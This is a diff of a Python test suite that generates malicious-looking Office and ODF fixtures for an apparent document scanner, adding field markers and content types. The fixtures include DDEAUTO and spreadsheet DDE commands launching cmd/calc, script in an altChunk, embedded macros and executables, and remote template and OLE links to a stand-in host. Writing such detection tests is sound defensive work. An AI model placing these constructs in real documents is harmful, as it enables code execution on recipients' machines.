@@ -50,7 +50,7 @@ def embedded():
     bad_file("pptx-package.pptx", pptx(parts={"ppt/embeddings/oleObject1.bin": native()}, more_types=bin_type), rule, 75, "an OLE package in a talk")
     bad_file("docx-docm-inside.docx", docx(parts={"word/embeddings/Dokument1.docm": docx(kind="docm", parts={"word/vbaProject.bin": VBA})},
              links=[("package", "embeddings/Dokument1.docm", False)]), rule, 75, "a document with macros inside a document")
-    bad_file("docx-html-chunk.docx", docx(body='<w:altChunk r:id="rId1"/>', parts={"word/chunk.html": "<html><script>alert(1)</script></html>"}, links=[("aFChunk", "chunk.html", False)]),
+    bad_file("docx-html-chunk.docx", docx(body='<w:altChunk r:id="rId1"/>', parts={"word/chunk.html": "<html><script>alert(1)</script></html>"}, links=[("aFChunk", "chunk.html", False)], more_types='<Default Extension="html" ContentType="text/html"/>'),
              "html_active | embedded | remote", 75, "a page with a script as altChunk")
     bad_file("odt-ole.odt", odt(body='<text:p><draw:frame><draw:object-ole xlink:href="./Object 1"/></draw:frame></text:p>', parts={"Object 1": native()}), rule, 75, "an OLE package in ODF")
     bad_file("odt-exe.odt", odt(parts={"Pictures/bild.png": exe()}), rule + " | mismatch", 75, "a program among the pictures of ODF")
@@ -132,8 +132,8 @@ def fetching():
     bad_file("external-link.xlsx", xlsx(parts={"xl/externalLinks/externalLink1.xml": "<externalLink/>", "xl/externalLinks/_rels/externalLink1.xml.rels": template.replace("attachedTemplate", "externalLinkPath").format("http://boese.example/a.xlsx")}),
              rule, 77, "a table linked from elsewhere")
     bad_file("external-ole.pptx", pptx(links=[("oleObject", "http://boese.example/a.sct", True)]), rule + " | embedded", 77, "an object from elsewhere in a talk")
-    bad_file("includepicture.docx", docx(body='<w:p><w:r><w:instrText> INCLUDEPICTURE "http://boese.example/x.png" \\d </w:instrText></w:r></w:p>'), rule + " | formula", 77, "a picture field from elsewhere")
-    bad_file("includetext-split.docx", docx(body='<w:p><w:r><w:instrText> INCLUDE</w:instrText></w:r><w:r><w:instrText>TEXT "http://boese.example/x"</w:instrText></w:r></w:p>'), rule + " | formula", 77, "a text field from elsewhere, in pieces")
+    bad_file("includepicture.docx", docx(body='<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPICTURE "http://boese.example/x.png" \\d </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'), rule + " | formula", 77, "a picture field from elsewhere")
+    bad_file("includetext-split.docx", docx(body='<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDE</w:instrText></w:r><w:r><w:instrText>TEXT "http://boese.example/x"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'), rule + " | formula", 77, "a text field from elsewhere, in pieces")
     bad_file("remote-image.odt", odt(body='<text:p><draw:frame><draw:image xlink:href="http://boese.example/x.png"/></draw:frame></text:p>'), rule, 77, "a picture from elsewhere in ODF")
     bad_file("remote-section.odt", odt(body='<text:section text:name="a"><text:section-source xlink:href="http://boese.example/a.odt"/></text:section>'), rule, 77, "a section from elsewhere in ODF")
     bad_file("remote-frame.odt", odt(body='<text:p><draw:frame><draw:floating-frame xlink:href="http://boese.example/"/></draw:frame></text:p>'), rule, 77, "a frame from elsewhere in ODF")
@@ -150,7 +150,7 @@ def dde():
         bad_file(f"dde-{name}.docx", docx(body=f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r>{body}</w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'), rule, 77, "a field that starts something")
     bad_file("dde-simple.docx", docx(body='<w:p><w:fldSimple w:instr="DDEAUTO cmd &quot;/k calc&quot;"/></w:p>'), rule, 77, "a field that starts something, in short form")
     bad_file("dde-quote.docx", docx(body='<w:p><w:r><w:instrText>QUOTE 68 68 69 65 85 84 79</w:instrText></w:r></w:p><w:p><w:fldSimple w:instr="DDE x y"/></w:p>'), rule, 77, "a field spelled by numbers, and one plain")
-    bad_file("dde-header.docx", docx(parts={"word/header1.xml": '<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p><w:r><w:instrText>DDEAUTO cmd x</w:instrText></w:r></w:p></w:hdr>'}, links=[("header", "header1.xml", False)]),
+    bad_file("dde-header.docx", docx(parts={"word/header1.xml": '<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO cmd x</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:hdr>'}, links=[("header", "header1.xml", False)]),
              rule, 77, "a field that starts something, in the page's head")
     bad_file("dde.xlsx", xlsx(row("=cmd|'/c calc'!A0")), rule, 77, "a formula that starts something")
     bad_file("dde-link.xlsx", xlsx(parts={"xl/externalLinks/externalLink1.xml": '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'}), rule + " | remote", 77, "a DDE link of a table")
